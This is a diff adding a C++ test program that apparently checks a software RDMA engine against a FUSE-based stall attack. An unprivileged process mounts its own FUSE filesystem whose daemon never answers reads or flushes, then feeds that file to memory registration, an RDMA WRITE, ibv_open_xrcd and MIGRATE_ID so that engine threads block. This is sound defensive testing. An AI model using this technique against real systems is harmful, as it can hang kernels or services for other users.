@@ -1,0 +1,331 @@
+// Issue 40, item 1: memory whose pages a user's FUSE daemon serves, under an MR. Run as
+// an unprivileged user:
+//   fuse_memory_attack DEVICE MOUNT_DIR
+// A child enters a user and mount namespace of its own, mounts a FUSE filesystem of its
+// own making on MOUNT_DIR (straight through /dev/fuse) and serves it: one 64 KiB file,
+// whose READ it never answers. It hands the open file to the parent (SCM_RIGHTS), which
+// stays in the original namespaces, maps it privately and shared, and registers each
+// mapping on DEVICE. The mount is in no mountinfo the client's process shows.
+//
+// The engine must refuse both registrations (EOPNOTSUPP): a page not in memory would make
+// whichever engine thread touches it wait for the daemon. Then the file itself goes to
+// the engine, where a stat, a statfs or a close would ask the daemon (GETATTR, STATFS,
+// FLUSH): as an XRC domain's file (ibv_open_xrcd, then ibv_close_xrcd) and as the
+// source file of an rdma_cm MIGRATE_ID. Printed:
+//   refused: private|shared ERRNO_NAME   a registration failed, as it must
+//   REGISTERED: private|shared           it was accepted: an RDMA WRITE from it is then
+//                                        posted, which makes the engine read the page
+//   xrcd: ERRNO_NAME|0, closed: ...      ibv_open_xrcd over the file, then its close
+//   migrate: ERRNO_NAME                  MIGRATE_ID naming the file (EINVAL: no rdma_cm file)
+//   holding                              done; the program waits to be killed, keeping
+//                                        the daemon and its unanswered requests alive
+//   daemon: PID                          first: the FUSE daemon's PID, to be killed after
+//                                        this program
+// The FUSE daemon prints "fuse: READ asked" and "fuse: FLUSH asked" for the requests it
+// never answers.
+#include "attack_verbs.hpp"
+
+#include <csignal>
+#include <cstdint>
+#include <cstdio>
+#include <cstring>
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <rdma/rdma_cma.h>
+#include <sched.h>
+#include <string>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <thread>
+#include <unistd.h>
+#include <vector>
+
+namespace {
+
+constexpr uint64_t kFileSize = 64 * 1024;
+constexpr uint64_t kRootNode = FUSE_ROOT_ID, kFileNode = 2;
+
+void write_file(const char* path, const std::string& text) {
+    const int fd = ::open(path, O_WRONLY);
+    if (fd < 0 || ::write(fd, text.data(), text.size()) != static_cast<ssize_t>(text.size()))
+        attack::die(path);
+    ::close(fd);
+}
+
+// The process a thread (a request's pid) belongs to, by /proc/TID/status; 0 if unknown.
+pid_t thread_group(pid_t thread) {
+    const std::string path = "/proc/" + std::to_string(thread) + "/status";
+    FILE* status = std::fopen(path.c_str(), "r");
+    if (!status)
+        return 0;
+    char line[256];
+    int group = 0;
+    while (std::fgets(line, sizeof(line), status))
+        if (std::sscanf(line, "Tgid: %d", &group) == 1)
+            break;
+    std::fclose(status);
+    return group;
+}
+
+// The FUSE protocol (include/uapi/linux/fuse.h), the least a mount and an open need.
+class FuseDaemon {
+  public:
+    explicit FuseDaemon(int fd) : fd_(fd) {}
+    void serve() {
+        std::vector<char> buffer(FUSE_MIN_READ_BUFFER + 128 * 1024);
+        for (;;) {
+            const ssize_t n = ::read(fd_, buffer.data(), buffer.size());
+            if (n < 0 && (errno == EINTR || errno == ENOENT || errno == EAGAIN))
+                continue;
+            if (n < static_cast<ssize_t>(sizeof(fuse_in_header)))
+                return; // unmounted (ENODEV) or broken
+            const auto* in = reinterpret_cast<const fuse_in_header*>(buffer.data());
+            handle(*in, buffer.data() + sizeof(fuse_in_header));
+        }
+    }
+
+  private:
+    void reply(uint64_t unique, int error, const void* data = nullptr, size_t length = 0) {
+        fuse_out_header out{};
+        out.len = static_cast<uint32_t>(sizeof(out) + length);
+        out.error = error;
+        out.unique = unique;
+        iovec pieces[2] = {{&out, sizeof(out)}, {const_cast<void*>(data), length}};
+        (void)::writev(fd_, pieces, length ? 2 : 1);
+    }
+    static fuse_attr attributes(uint64_t node) {
+        fuse_attr attr{};
+        attr.ino = node;
+        attr.nlink = 1;
+        attr.blksize = 4096;
+        if (node == kRootNode) {
+            attr.mode = S_IFDIR | 0755;
+        } else {
+            attr.mode = S_IFREG | 0666;
+            attr.size = kFileSize;
+            attr.blocks = kFileSize / 512;
+        }
+        return attr;
+    }
+    void handle(const fuse_in_header& in, const char* body) {
+        switch (in.opcode) {
+        case FUSE_INIT: {
+            const auto* init = reinterpret_cast<const fuse_init_in*>(body);
+            fuse_init_out out{};
+            out.major = FUSE_KERNEL_VERSION;
+            out.minor = FUSE_KERNEL_MINOR_VERSION;
+            out.max_readahead = init->max_readahead;
+            out.max_write = 4096;
+            reply(in.unique, 0, &out, sizeof(out));
+            return;
+        }
+        case FUSE_LOOKUP: {
+            if (in.nodeid != kRootNode || std::strcmp(body, "file") != 0)
+                return reply(in.unique, -ENOENT);
+            fuse_entry_out out{};
+            out.nodeid = kFileNode;
+            out.entry_valid = out.attr_valid = 3600;
+            out.attr = attributes(kFileNode);
+            return reply(in.unique, 0, &out, sizeof(out));
+        }
+        case FUSE_GETATTR: {
+            fuse_attr_out out{};
+            out.attr_valid = 3600;
+            out.attr = attributes(in.nodeid);
+            return reply(in.unique, 0, &out, sizeof(out));
+        }
+        case FUSE_OPEN: {
+            fuse_open_out out{};
+            out.fh = 1;
+            return reply(in.unique, 0, &out, sizeof(out));
+        }
+        case FUSE_READ:
+            // Never answered: whoever faults the page in waits until the daemon dies.
+            std::fprintf(stderr, "fuse: READ asked\n");
+            return;
+        case FUSE_FLUSH:
+            // Answered for this program's own two processes (their exits close the file),
+            // never for anyone else: whoever else closes a descriptor of it waits.
+            if (const pid_t group = thread_group(static_cast<pid_t>(in.pid));
+                group == ::getpid() || group == ::getppid())
+                return reply(in.unique, 0);
+            std::fprintf(stderr, "fuse: FLUSH asked\n");
+            return;
+        case FUSE_RELEASE:
+            return reply(in.unique, 0);
+        case FUSE_FORGET:
+        case FUSE_BATCH_FORGET:
+        case FUSE_INTERRUPT:
+        case FUSE_DESTROY:
+            return; // no reply is expected
+        default:
+            return reply(in.unique, -ENOSYS);
+        }
+    }
+    int fd_;
+};
+
+// The child: its own namespaces, the mount, the daemon; the open file goes to `channel`.
+[[noreturn]] void run_filesystem(const char* mount_dir, int channel) {
+    const uid_t uid = ::getuid();
+    const gid_t gid = ::getgid();
+    if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
+        attack::die("unshare(CLONE_NEWUSER | CLONE_NEWNS)");
+    write_file("/proc/self/setgroups", "deny");
+    write_file("/proc/self/uid_map", "0 " + std::to_string(uid) + " 1");
+    write_file("/proc/self/gid_map", "0 " + std::to_string(gid) + " 1");
+    // The daemon goes with the attack (the test kills that, by its PID).
+    if (::prctl(PR_SET_PDEATHSIG, SIGKILL) != 0 || ::getppid() == 1)
+        attack::die("tie the daemon to its parent");
+    if (::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0)
+        attack::die("make / private");
+    const int fuse = ::open("/dev/fuse", O_RDWR | O_CLOEXEC);
+    if (fuse < 0)
+        attack::die("open /dev/fuse");
+    const std::string options =
+        "fd=" + std::to_string(fuse) + ",rootmode=40000,user_id=0,group_id=0";
+    if (::mount("softhca-attack", mount_dir, "fuse", MS_NOSUID | MS_NODEV, options.c_str()) != 0)
+        attack::die("mount fuse");
+    FuseDaemon daemon(fuse);
+    std::thread server([&daemon] { daemon.serve(); });
+    const int file = ::open((std::string(mount_dir) + "/file").c_str(), O_RDWR);
+    if (file < 0)
+        attack::die("open the FUSE file");
+    char byte = 0;
+    iovec piece{&byte, 1};
+    alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
+    msghdr message{};
+    message.msg_iov = &piece;
+    message.msg_iovlen = 1;
+    message.msg_control = control;
+    message.msg_controllen = sizeof(control);
+    cmsghdr* header = CMSG_FIRSTHDR(&message);
+    header->cmsg_level = SOL_SOCKET;
+    header->cmsg_type = SCM_RIGHTS;
+    header->cmsg_len = CMSG_LEN(sizeof(int));
+    std::memcpy(CMSG_DATA(header), &file, sizeof(int));
+    if (::sendmsg(channel, &message, 0) != 1)
+        attack::die("send the FUSE file");
+    ::close(file); // only the parent holds it now: the daemon's own exit flushes nothing
+    server.join();
+    std::_Exit(0);
+}
+
+int receive_file(int channel) {
+    char byte = 0;
+    iovec piece{&byte, 1};
+    alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))] = {};
+    msghdr message{};
+    message.msg_iov = &piece;
+    message.msg_iovlen = 1;
+    message.msg_control = control;
+    message.msg_controllen = sizeof(control);
+    if (::recvmsg(channel, &message, 0) != 1)
+        attack::die("receive the FUSE file (the child failed)");
+    cmsghdr* header = CMSG_FIRSTHDR(&message);
+    if (!header || header->cmsg_type != SCM_RIGHTS)
+        attack::die("no file in the message");
+    int file = -1;
+    std::memcpy(&file, CMSG_DATA(header), sizeof(int));
+    return file;
+}
+
+// An RDMA WRITE from `source` over a QP connected to another of the same context: the
+// engine reads the source's pages to send them.
+void write_from(const attack::Side& side, ibv_mr* source) {
+    void* target_memory =
+        ::mmap(nullptr, kFileSize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    ibv_mr* target = ibv_reg_mr(side.pd, target_memory, kFileSize,
+                                IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
+    if (!target)
+        attack::die("register the target");
+    ibv_qp* a = attack::make_qp(side);
+    ibv_qp* b = attack::make_qp(side);
+    attack::connect_qp(a, b->qp_num, side.gid);
+    attack::connect_qp(b, a->qp_num, side.gid);
+    ibv_sge sge{reinterpret_cast<uint64_t>(source->addr), static_cast<uint32_t>(kFileSize),
+                source->lkey};
+    ibv_send_wr wr{};
+    ibv_send_wr* bad = nullptr;
+    wr.sg_list = &sge;
+    wr.num_sge = 1;
+    wr.opcode = IBV_WR_RDMA_WRITE;
+    wr.send_flags = IBV_SEND_SIGNALED;
+    wr.wr.rdma.remote_addr = reinterpret_cast<uint64_t>(target_memory);
+    wr.wr.rdma.rkey = target->rkey;
+    if (ibv_post_send(a, &wr, &bad) != 0)
+        attack::die("post the WRITE");
+}
+
+} // namespace
+
+int main(int argc, char** argv) {
+    if (argc != 3) {
+        std::fprintf(stderr, "usage: %s DEVICE MOUNT_DIR\n", argv[0]);
+        return 2;
+    }
+    int channel[2];
+    if (::socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, channel) != 0)
+        attack::die("socketpair");
+    const pid_t child = ::fork();
+    if (child < 0)
+        attack::die("fork");
+    if (child == 0) {
+        ::close(channel[0]);
+        run_filesystem(argv[2], channel[1]);
+    }
+    ::close(channel[1]);
+    // The daemon is killed after this program when the test ends (by this PID): this
+    // program's exit closes the file, whose FLUSH the daemon answers to it alone.
+    std::printf("daemon: %d\n", static_cast<int>(child));
+    std::fflush(stdout);
+    const int file = receive_file(channel[0]);
+    const attack::Side side = attack::open_side(argv[1]);
+    const int access = IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ;
+    for (const int sharing : {MAP_PRIVATE, MAP_SHARED}) {
+        const char* name = sharing == MAP_PRIVATE ? "private" : "shared";
+        void* memory = ::mmap(nullptr, kFileSize, PROT_READ | PROT_WRITE, sharing, file, 0);
+        if (memory == MAP_FAILED)
+            attack::die("map the FUSE file");
+        if (ibv_mr* mr = ibv_reg_mr(side.pd, memory, kFileSize, access)) {
+            std::printf("REGISTERED: %s\n", name);
+            std::fflush(stdout);
+            write_from(side, mr);
+        } else {
+            std::printf("refused: %s %s\n", name, strerrorname_np(errno));
+        }
+    }
+    // The file handed to the engine as an XRC domain's.
+    ibv_xrcd_init_attr xrcd_attr{};
+    xrcd_attr.comp_mask = IBV_XRCD_INIT_ATTR_FD | IBV_XRCD_INIT_ATTR_OFLAGS;
+    xrcd_attr.fd = file;
+    xrcd_attr.oflags = O_CREAT;
+    ibv_xrcd* xrcd = ibv_open_xrcd(side.context, &xrcd_attr);
+    const int open_errno = xrcd ? 0 : errno;
+    const int closed = xrcd ? ibv_close_xrcd(xrcd) : -1;
+    std::printf("xrcd: %s, closed: %s\n", open_errno ? strerrorname_np(open_errno) : "0",
+                xrcd ? (closed == 0 ? "0" : strerrorname_np(closed)) : "-");
+    // ... and as the source file of MIGRATE_ID (written as librdmacm writes it).
+    rdma_event_channel* cm_file = rdma_create_event_channel();
+    if (!cm_file)
+        attack::die("rdma_create_event_channel");
+    struct {
+        uint32_t cmd;
+        uint16_t in, out;
+        uint64_t response;
+        uint32_t id, fd;
+    } migrate{18 /* RDMA_USER_CM_CMD_MIGRATE_ID */, 16, 4, 0, 0, static_cast<uint32_t>(file)};
+    uint32_t events_reported = 0;
+    migrate.response = reinterpret_cast<uintptr_t>(&events_reported);
+    const bool moved = ::write(cm_file->fd, &migrate, sizeof(migrate)) == sizeof(migrate);
+    std::printf("migrate: %s\n", moved ? "0" : strerrorname_np(errno));
+    std::printf("holding\n");
+    std::fflush(stdout);
+    for (;;)
+        ::pause();
+}
